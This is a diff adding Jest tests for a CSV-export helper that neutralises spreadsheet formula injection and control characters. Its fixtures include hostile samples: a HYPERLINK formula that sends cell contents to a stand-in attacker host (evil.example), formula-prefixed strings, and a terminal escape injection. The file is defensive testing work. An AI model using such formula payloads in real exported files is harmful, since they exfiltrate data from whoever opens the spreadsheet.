@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import type { FailureClass } from '../../projections/run-analysis/analysis.types.js';
 import { analysisFixture } from '../../projections/run-analysis/testing/run-fixture.js';
-import { csvField, formatNumber, resultsCsv } from './results-csv.js';
+import { csvCell, csvField, formatNumber, resultsCsv } from './results-csv.js';
 
 const run = (runId: string, best: number | null, extra: { cls?: FailureClass; driver?: string } = {}) =>
   analysisFixture({
@@ -35,5 +35,26 @@ describe('resultsCsv', () => {
     expect(csvField('plain')).toBe('plain');
     expect(csvField('a\nb')).toBe('"a\nb"');
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
+  });
+});
+
+describe('csvCell', () => {
+  it('neutralises what a spreadsheet would evaluate, with a leading quote, and keeps numbers numbers', () => {
+    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    for (const formula of ['+1+1', '-2+3', '@SUM(A1:A9)', '＝1+1', '＋cmd', '－1', '＠x', '-', '+']) expect(csvCell(formula)).toBe(`'${formula}`);
+    for (const number of ['-3.5', '+2', '-0.25', '1e-7', '-1E+3', '40', '-.5']) expect(csvCell(number)).toBe(number);
+    expect(csvCell('gpt-4o')).toBe('gpt-4o');
+  });
+
+  it('shows control characters escaped, tab and CR included, so no cell starts a formula through them', () => {
+    expect(csvCell('\t=1+1')).toBe('\\t=1+1');
+    expect(csvCell('\r=1+1')).toBe('\\r=1+1');
+    expect(csvCell('m\x1b]0;pwned\x07\u202e')).toBe('m\\x1b]0;pwned\\x07\\u202e');
+  });
+
+  it('neutralises a requested model name in results.csv, not the numeric columns', () => {
+    const hostile = { ...run('r1', 7.5, { driver: '=HYPERLINK("http://evil.example","ok")' }), scheduledAt: '2026-01-01T00:00:00.000Z', workspace: '@ws' };
+    const row = resultsCsv([hostile]).split('\r\n')[1];
+    expect(row).toBe(`r1,2026-01-01T00:00:00.000Z,ref-arith,reference,"'=HYPERLINK(""http://evil.example"",""ok"")",arith-base,10,7.5,-2.5,0,20,false,'@ws`);
   });
 });
